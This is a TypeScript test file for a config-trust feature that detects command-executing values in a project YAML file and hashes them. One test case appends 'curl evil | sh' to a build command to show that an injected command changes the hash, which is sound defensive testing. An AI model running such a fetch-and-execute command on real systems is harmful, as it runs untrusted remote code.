import { expect, test } from 'vitest'
import { executingValues } from './executing-values.ts'
import { readConfig } from './read-config.ts'

const project = { record: '/state/shop-0123456789abcdef' }

const read = (text: string, person: string | null = null): ReturnType<typeof executingValues> =>
  executingValues(
    readConfig([
      { path: '~/mayday.yaml', text: person },
      { path: 'mayday.yaml', text },
    ]).untrusted,
    project,
  )

const keysIn = (text: string, person: string | null = null): readonly string[] =>
  read(text, person).values.map(({ key }) => key)

const base = 'stages: {verify: npm test, setup: npm ci}\nagents: {claude: {args: [--model, opus]}}\n'

test('executing values are found by their flag', () => {
  expect(
    keysIn(
      [
        base,
        'notify: {desktop: true, webhook: "https://example.org", command: mail}',
        'bench: {sandbox: docker, image: node, network: true}',
        'limits: {timeout: 1m}\nlessons: {file: CLAUDE.md}\nbudget: {attempts: 2}\n',
      ].join('\n'),
    ),
  ).toEqual([
    'agents.claude.args',
    'bench.image',
    'bench.network',
    'bench.sandbox',
    'notify.command',
    'notify.desktop',
    'notify.webhook',
    'stages.setup',
    'stages.verify',
  ])
})

test('an agent needs trust only if it is defined', () => {
  expect(keysIn('agent: claude\n')).toEqual([])
  expect(keysIn('agent: mine\nagents: {mine: {command: [./a.sh]}}\n')).toEqual([
    'agent',
    'agents.mine.command',
  ])
  expect(keysIn('agent: mine\n', 'agents: {mine: {command: [./a.sh]}}\n')).toEqual(['agent'])
})

test('the file of the user needs no trust', () => {
  expect(keysIn('limits: {timeout: 1m}\n', base)).toEqual([])
})

test.each([
  ['a comment', `# hello\n${base}`],
  ['another order', 'agents: {claude: {args: [--model, opus]}}\nstages: {setup: npm ci, verify: npm test}\n'],
  ['quotes', base.replace('npm test', '"npm test"')],
  [
    'blocks',
    'stages:\n  verify: npm test\n  setup: npm ci\nagents:\n  claude:\n    args:\n    - --model\n    - opus\n',
  ],
  ['a value that executes nothing', `${base}limits: {timeout: 1m}\nlessons: {file: CLAUDE.md}\n`],
])('the hash does not change with %s', (_, text) => {
  expect(read(text).hash).toBe(read(base).hash)
})

test.each([
  ['another command', base.replace('npm test', 'npm test; curl evil | sh')],
  ['one more value', `${base}notify: {command: mail}\n`],
  ['one value less', base.replace(', setup: npm ci', '')],
  ['words in another order', base.replace('--model, opus', 'opus, --model')],
  ['words that are cut elsewhere', base.replace('--model, opus', '"--model, opus"')],
  [
    'two values that changed places',
    'stages: {setup: npm test, verify: npm ci}\nagents: {claude: {args: [--model, opus]}}\n',
  ],
])('the hash changes with %s', (_, text) => {
  expect(read(text).hash).not.toBe(read(base).hash)
})

test('another project has another hash', () => {
  const { untrusted } = readConfig([{ path: 'mayday.yaml', text: base }])
  const other = executingValues(untrusted, { record: '/state/shop-fedcba9876543210' })
  expect(other.hash).not.toBe(read(base).hash)
  expect(executingValues(untrusted, { record: '/moved/shop-0123456789abcdef' }).hash).toBe(read(base).hash)
})

test('executing values are not readable without trust', () => {
  const text = `${base}agent: mine\nlimits: {timeout: 1m}\n`.replace(
    'agents: {',
    'agents: {mine: {command: [./a.sh]}, ',
  )
  const { readable } = readConfig([
    { path: '~/mayday.yaml', text: 'stages: {verify: my own}\n' },
    { path: 'mayday.yaml', text },
  ])
  expect(readable).toMatchObject({ stages: { verify: 'my own' }, agents: {}, limits: { timeoutMs: 60_000 } })
  expect(readable.agent).toBeUndefined()
  expect(readable.stages.setup).toBeUndefined()
})
